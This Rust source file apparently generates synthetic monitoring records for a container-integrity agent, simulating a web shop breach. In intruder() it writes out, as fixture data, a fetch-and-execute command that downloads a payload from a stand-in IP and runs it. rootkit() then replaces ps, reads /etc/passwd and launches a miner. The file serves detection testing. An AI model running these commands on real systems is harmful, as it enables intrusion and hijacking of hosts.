// SPDX-License-Identifier: Apache-2.0
//! An afternoon on one node, in which somebody gets into a web shop: what a report of it shows, and what queries may be tried on.
//!
//! ```text
//! edge-2          the list: three containers, of which one is broken into at 15:02, one is denied
//! web.json        references of the images of two
//! redis.json
//! ```

use std::{
    collections::{BTreeSet, HashSet},
    fs, io,
    path::Path,
};

use cima_abi::{Change, FileId, NS_COUNT};
use cima_agent::{
    containers::{Identities, Registered, Registry},
    measure::{
        Anchorage, Batch, ContextEvent, Executed, PolicyEvent, measure,
        proto::{self, context_event::What, start::Reason},
    },
    probes::{
        Breach, ChangeKind, Command, Event, Hash, Home, How, Object, Process, Subject, What as Seen,
    },
    shared::Shared,
};
use cima_policies::admission::{self, Input};
use image_digest::{
    ImageDigest,
    reference::{Executable, Reference, Why},
};

use super::{
    Fleet,
    list::{List, PCR, Written},
    numbers::{Numbers, digest_of, hex_of, uuid_of},
};

const NODE: &str = "edge-2";
const SECOND: u64 = 1_000_000_000;
const LIBC: &str = "/usr/lib/x86_64-linux-gnu/libc.so.6";

/// What a container is made of.
struct Made {
    name: &'static str,
    reference: &'static str,
    /// Its first program and arguments.
    command: &'static [&'static str],
    uid: u32,
    /// What its image has besides, that may be executed.
    executables: &'static [&'static str],
    volume: Option<(&'static str, &'static str)>,
}

const WEB: Made = Made {
    name: "shop-web",
    reference: "registry.example/shop/web:4.2",
    command: &["/usr/sbin/php-fpm", "--nodaemonize"],
    uid: 33,
    executables: &[
        "/usr/sbin/nginx",
        "/usr/bin/curl",
        "/usr/bin/dash",
        "/usr/bin/id",
        "/usr/bin/uname",
        "/usr/bin/chmod",
        "/usr/bin/cp",
        "/usr/bin/cat",
        "/usr/bin/ps",
        "/usr/bin/bash",
        LIBC,
    ],
    volume: Some(("/var/www/uploads", "/srv/shop/uploads")),
};
const REDIS: Made = Made {
    name: "shop-redis",
    reference: "registry.example/shop/redis:7.4",
    command: &["/usr/local/bin/redis-server", "/etc/redis.conf"],
    uid: 999,
    executables: &["/usr/local/bin/redis-cli", LIBC],
    volume: Some(("/data", "/srv/shop/redis")),
};
const CRON: Made = Made {
    name: "shop-cron",
    reference: "registry.example/shop/cron:2.0",
    command: &["/usr/sbin/cron", "-f"],
    uid: 0,
    executables: &["/usr/bin/dash", "/usr/bin/php", LIBC],
    volume: None,
};
const SCANNER: Made = Made {
    name: "scanner",
    reference: "docker.example/tools/scan:latest",
    command: &["/scan"],
    uid: 0,
    executables: &[],
    volume: Some(("/host", "/")),
};

impl Made {
    fn image(&self) -> ima_log::Digest {
        digest_of(&format!("incident/{}", self.reference))
    }

    /// Files of one path are the same in all images here.
    fn reference(&self) -> Reference {
        let mut paths: Vec<_> = self.executables.iter().chain(&self.command[..1]).collect();
        paths.sort();
        let executable = |path: &&&str| Executable {
            path: (**path).to_string(),
            sha256: hex_of(path),
            why: BTreeSet::from([Why::Elf, Why::Mode]),
        };
        Reference {
            version: 1,
            image: self.image().to_string(),
            name: Some(self.reference.to_owned()),
            manifest: Some(format!("sha256:{}", hex_of("manifest"))),
            config: Some(format!("sha256:{}", hex_of("config"))),
            platform: Some("linux/amd64".to_owned()),
            labels: Default::default(),
            annotations: Default::default(),
            executables: paths.iter().map(executable).collect(),
        }
    }
}

/// One of them, as it runs.
struct Running {
    number: u64,
    home: Shared<Home>,
    init: Task,
    mapped: HashSet<String>,
}

/// A process, and those above it.
#[derive(Clone)]
struct Task {
    process: Process,
    above: Vec<Process>,
    uid: u32,
    login_uid: Option<u32>,
}

/// The node, and the agent on it.
struct Node {
    list: List,
    boot_id: String,
    registry: Registry,
    identities: Identities,
    executed: Executed,
    numbers: Numbers,
    now_ns: u64,
    tgid: u32,
}

/// Writes it; of the fleet the place, the seed and the day count.
pub(crate) fn generate(fleet: &Fleet) -> io::Result<Written> {
    let boot_id = uuid_of(&format!("incident/{}", fleet.seed));
    let registry = Registry::default();
    let mut node = Node {
        list: List::new(&fleet.dir.join(NODE), &boot_id)?,
        boot_id,
        identities: Identities::new(registry.clone()),
        registry,
        executed: Executed::default(),
        numbers: Numbers::new(fleet.seed, 0),
        now_ns: 31 * SECOND,
        tgid: 700,
    };
    // The node boots at 13:40.
    node.begin((fleet.start_s + 13 * 3_600 + 40 * 60) * 1_000_000_000)?;
    let mut containers = [
        node.start(1, &WEB)?,
        node.start(2, &REDIS)?,
        node.start(3, &CRON)?,
    ];
    node.afternoon(&mut containers)?;
    for (made, name) in [(&WEB, "web.json"), (&REDIS, "redis.json")] {
        write(&made.reference(), &fleet.dir.join(name))?;
    }
    node.list.finish()
}

fn write(reference: &Reference, path: &Path) -> io::Result<()> {
    reference.write(&mut fs::File::create(path)?)
}

impl Node {
    fn begin(&mut self, realtime_offset_ns: i64) -> io::Result<()> {
        let start = proto::Start {
            boot_id: self.boot_id.clone(),
            agent_version: "0.1.0".to_owned(),
            kernel_release: "6.12.57+deb12-amd64".to_owned(),
            pcr: Some(PCR),
            banks: Vec::new(),
            realtime_offset_ns,
            reason: Reason::Boot.into(),
            sink: Anchorage::Pcr.name().to_owned(),
        };
        self.say_itself(Vec::new(), What::Start(start))
    }

    fn say_itself(&mut self, events: Vec<PolicyEvent>, what: What) -> io::Result<()> {
        let mut batch = Batch::new();
        batch.push(ContextEvent::of_agent(self.tick(), what));
        self.list.commit(events, batch)
    }

    fn say(&mut self, events: Vec<Event>) -> io::Result<()> {
        let (mut batch, mut said) = (Batch::new(), Vec::new());
        for event in events {
            let identity = self.identities.of(&event);
            let measured = measure(&event, &identity, &self.boot_id, &mut self.executed);
            said.extend(measured.policy_event);
            batch.push(measured.context);
        }
        self.list.commit(said, batch)
    }

    fn tick(&mut self) -> u64 {
        self.now_ns += 1_000_000 + self.numbers.below(8_000_000);
        self.now_ns
    }

    /// Sleeps until some seconds after the boot.
    fn until(&mut self, second: u64) {
        self.now_ns = self
            .now_ns
            .max(second * SECOND + self.numbers.below(SECOND));
    }

    fn process(&mut self, path: &str) -> Process {
        self.tgid += 1 + self.numbers.below(3) as u32;
        let comm = path.rsplit('/').next().unwrap_or_default().as_bytes();
        Process {
            tgid: self.tgid,
            start_ns: self.tick(),
            comm: comm[..comm.len().min(15)].to_vec(),
        }
    }

    /// A container is announced, judged, and runs its first program if it may.
    fn start(&mut self, number: u64, made: &'static Made) -> io::Result<Running> {
        let mut init = self.process(made.command[0]);
        init.comm = b"crun".to_vec();
        let created = self.created(number, made, &init, &[]);
        let image = made.image().to_string().parse::<ImageDigest>();
        let image = image.map_err(io::Error::other)?;
        self.registry.insert(Registered::of(&created));
        self.say_itself(vec![PolicyEvent::image(&image)], What::Created(created))?;
        let conmon = self.process("conmon");
        let mut running = Running {
            number,
            home: home(number, made.name),
            init: Task {
                process: init,
                above: vec![conmon, systemd()],
                uid: made.uid,
                login_uid: None,
            },
            mapped: HashSet::new(),
        };
        let task = running.init.clone();
        running.init = self.executes(&mut running, task, made.command)?;
        Ok(running)
    }

    fn created(
        &self,
        number: u64,
        made: &Made,
        init: &Process,
        reasons: &[&str],
    ) -> proto::Created {
        let (volumes, input) = input(made);
        proto::Created {
            container: number,
            id: hex_of(made.name),
            image: made.image().bytes().to_vec(),
            mnt_ns: 4_026_532_300 + number as u32,
            mnt_generation: 40 + number,
            init_tgid: init.tgid,
            init_start_ns: init.start_ns / 10_000_000 * 10_000_000,
            input,
            allowed: reasons.is_empty(),
            reasons: reasons.iter().map(ToString::to_string).collect(),
            policy: digest_of("admission policy").bytes().to_vec(),
            volumes,
        }
    }

    /// A child of `parent` executes a program.
    fn runs(&mut self, of: &mut Running, parent: &Task, args: &[&str]) -> io::Result<Task> {
        let process = self.process(args[0]);
        let above = [std::slice::from_ref(&parent.process), &parent.above].concat();
        let task = Task {
            process,
            above: above.into_iter().take(cima_abi::ANCESTORS).collect(),
            ..parent.clone()
        };
        self.executes(of, task, args)
    }

    /// A process executes a program, of which the first time also the files are mapped.
    fn executes(&mut self, of: &mut Running, mut task: Task, args: &[&str]) -> io::Result<Task> {
        let name = args[0].rsplit('/').next().unwrap_or_default().as_bytes();
        task.process.comm = name[..name.len().min(15)].to_vec();
        let command = Command {
            args: args.iter().map(|arg| arg.as_bytes().to_vec()).collect(),
            argc: args.len() as u32,
            truncated: false,
        };
        let what = Seen::Exec(Shared::new(command));
        let mut events = vec![self.event(of, &task, args[0], what)];
        for path in [args[0], LIBC] {
            if of.mapped.insert(path.to_owned()) {
                events.push(self.mapped(of, &task, path, path));
            }
        }
        self.say(events)?;
        Ok(task)
    }

    fn mapped(&mut self, of: &Running, task: &Task, path: &str, content: &str) -> Event {
        let what = Seen::Measured {
            how: How::Mapped {
                prot: 5,
                map_flags: 2,
            },
            hash: Hash::Digest(digest_of(content)),
        };
        self.event(of, task, path, what)
    }

    fn event(&mut self, of: &Running, task: &Task, path: &str, what: Seen) -> Event {
        Event {
            what,
            time_ns: self.tick(),
            tgid: task.process.tgid,
            start_ns: task.process.start_ns,
            tid: task.process.tgid,
            ns_tgid: task.process.tgid - 600,
            subject: Shared::new(Subject {
                comm: task.process.comm.clone(),
                uid: task.uid,
                gid: task.uid,
                login_uid: task.login_uid,
                session: task.login_uid.map(|_| 12),
                ancestors: Shared::new(task.above.clone()),
            }),
            home: of.home.clone(),
            file: Shared::new(Object {
                id: FileId {
                    inode: u64::from(digest_of(path).bytes()[0]) + 800_000,
                    size: 52_000,
                    fs_magic: 0x794c_7630,
                    device: 60 + of.number as u32,
                    generation: 0,
                    links: 1,
                    mode: 0o100_755,
                },
                path: Some(path.as_bytes().to_vec()),
                overlay: true,
                memfd: false,
            }),
            flags: 0,
        }
    }

    /// Seconds are those since 13:40.
    fn afternoon(&mut self, containers: &mut [Running; 3]) -> io::Result<()> {
        let [web, ..] = containers;
        let init = web.init.clone();
        let nginx = ["/usr/sbin/nginx", "-g", "daemon off;"];
        self.runs(web, &init, &nginx)?;
        self.usual(containers, 60, 2_950)?;
        self.denied()?;
        self.usual(containers, 2_960, 4_925)?;
        let shell = self.intruder(&mut containers[0])?;
        self.usual(containers, 5_000, 5_800)?;
        self.rootkit(&mut containers[0], &shell)?;
        self.usual(containers, 5_860, 6_500)?;
        self.operator(&mut containers[0])?;
        self.usual(containers, 6_640, 7_200)
    }

    /// What goes on all day.
    fn usual(
        &mut self,
        [web, redis, cron]: &mut [Running; 3],
        from: u64,
        to: u64,
    ) -> io::Result<()> {
        for second in (from..to).step_by(30) {
            self.until(second);
            let (web_init, redis_init) = (web.init.clone(), redis.init.clone());
            self.runs(redis, &redis_init, &["/usr/local/bin/redis-cli", "ping"])?;
            if second % 60 < 30 {
                let health = ["/usr/bin/curl", "-fsS", "http://127.0.0.1:8080/healthz"];
                self.runs(web, &web_init, &health)?;
            }
            if second % 300 < 30 {
                let init = cron.init.clone();
                let job = ["/usr/bin/dash", "-c", "php /app/bin/console orders:sync"];
                let shell = self.runs(cron, &init, &job)?;
                self.runs(
                    cron,
                    &shell,
                    &["/usr/bin/php", "/app/bin/console", "orders:sync"],
                )?;
            }
        }
        Ok(())
    }

    /// A container that asks for the whole host.
    fn denied(&mut self) -> io::Result<()> {
        let process = self.process("crun");
        let reasons = [
            "the registry docker.example is not one of this site",
            "it mounts the host's root at /host",
        ];
        let created = self.created(4, &SCANNER, &process, &reasons);
        self.say_itself(Vec::new(), What::Created(created))
    }

    /// Through an upload form, at 15:02.
    fn intruder(&mut self, web: &mut Running) -> io::Result<Task> {
        self.until(4_931);
        let php = web.init.clone();
        for command in [["/usr/bin/id", "-a"], ["/usr/bin/uname", "-a"]] {
            let line = command.join(" ");
            let shell = self.runs(web, &php, &["/usr/bin/dash", "-c", &line])?;
            self.runs(web, &shell, &command)?;
        }
        self.until(4_944);
        let line = "curl -so /tmp/.cache/kworker http://198.51.100.23/k; chmod +x /tmp/.cache/kworker; /tmp/.cache/kworker -d";
        let shell = self.runs(web, &php, &["/usr/bin/dash", "-c", line])?;
        let fetch = [
            "/usr/bin/curl",
            "-so",
            "/tmp/.cache/kworker",
            "http://198.51.100.23/k",
        ];
        self.runs(web, &shell, &fetch)?;
        self.runs(
            web,
            &shell,
            &["/usr/bin/chmod", "+x", "/tmp/.cache/kworker"],
        )?;
        self.until(4_947);
        let worker = self.runs(web, &shell, &["/tmp/.cache/kworker", "-d"])?;
        let memory = Seen::Breach(Breach::Anonymous {
            prot: 7,
            map_flags: 0x22,
        });
        let event = self.event(web, &worker, "/tmp/.cache/kworker", memory);
        self.say(vec![event])?;
        Ok(worker)
    }

    /// At 15:16: `ps` is one that does not show it, and something runs out of the uploads.
    fn rootkit(&mut self, web: &mut Running, worker: &Task) -> io::Result<()> {
        self.until(5_811);
        let shell = self.runs(web, worker, &["/usr/bin/bash", "-i"])?;
        self.runs(
            web,
            &shell,
            &["/usr/bin/cp", "/tmp/.cache/ps", "/usr/bin/ps"],
        )?;
        let event = self.event(web, &shell, "/usr/bin/ps", Seen::Breach(Breach::Written));
        self.say(vec![event])?;
        self.until(5_830);
        let task = self.runs(web, &shell, &["/usr/bin/cat", "/etc/passwd"])?;
        let event = self.mapped(web, &task, "/usr/bin/ps", "another ps");
        self.say(vec![event])?;
        self.until(5_846);
        self.runs(
            web,
            worker,
            &["/tmp/.cache/miner", "-o", "198.51.100.23:3333"],
        )?;
        Ok(())
    }

    /// Somebody looks, at 15:28.
    fn operator(&mut self, web: &mut Running) -> io::Result<()> {
        self.until(6_510);
        let conmon = self.process("conmon");
        let process = self.process("crun");
        let task = Task {
            process,
            above: vec![conmon, systemd()],
            uid: 0,
            login_uid: Some(1000),
        };
        let change = Change {
            mnt_generation: 40 + web.number,
            container: web.number,
            ns: namespaces(web.number),
            flags: 0x6c02_0000,
            gathered: 0b0111_1011,
            root_device: 0,
            reserved: 0,
        };
        let joined = self.event(web, &task, "", Seen::Change(ChangeKind::Joined, change));
        self.say(vec![joined])?;
        let shell = self.executes(web, task, &["/usr/bin/bash"])?;
        self.until(6_522);
        self.runs(web, &shell, &["/usr/bin/ps", "aux"])?;
        self.until(6_540);
        self.runs(web, &shell, &["/usr/bin/cat", "/proc/net/tcp"])?;
        Ok(())
    }
}

/// What the admission policy is asked, and the volumes in it.
fn input(made: &Made) -> (Vec<proto::Volume>, String) {
    // The example is held to its schema by a test of its own.
    let Ok(mut input) = Input::parse(admission::EXAMPLE.as_bytes()) else {
        return Default::default();
    };
    let sha256 = |text: String| admission::Digest::try_from(text).ok();
    let container = &mut input.container;
    container.id = hex_of(made.name);
    container.name = Some(made.name.to_owned());
    let image = &mut input.image;
    image.digest = sha256(made.image().to_string());
    image.reference = Some(made.reference.to_owned());
    image.manifest_digest = sha256(format!("sha256:{}", hex_of(made.name)));
    image.config_digest = sha256(format!("sha256:{}", hex_of(made.reference)));
    input.process.args = made.command.iter().map(ToString::to_string).collect();
    let example = input.volumes.pop();
    let mut volumes = Vec::new();
    if let Some((destination, source)) = made.volume {
        volumes.push(proto::Volume {
            destination: destination.to_owned(),
            source: source.to_owned(),
            device: 8 << 20 | 1,
        });
        input
            .volumes
            .extend(example.clone().map(|volume| admission::Volume {
                destination: destination.to_owned(),
                source: source.to_owned(),
                ..volume
            }));
    }
    // An input is plain data: it can be written.
    (volumes, serde_json::to_string(&input).unwrap_or_default())
}

fn namespaces(container: u64) -> [u32; NS_COUNT] {
    [4_026_532_300 + container as u32; NS_COUNT]
}

fn home(container: u64, name: &str) -> Shared<Home> {
    Shared::new(Home {
        ns: namespaces(container),
        mnt_generation: 40 + container,
        cgroup_id: 5_000 + container,
        cgroup: format!("/machine.slice/libpod-{}.scope/container", hex_of(name)).into_bytes(),
        cgroup_truncated: false,
        container,
    })
}

fn systemd() -> Process {
    Process {
        tgid: 1,
        start_ns: 30_000_000,
        comm: b"systemd".to_vec(),
    }
}
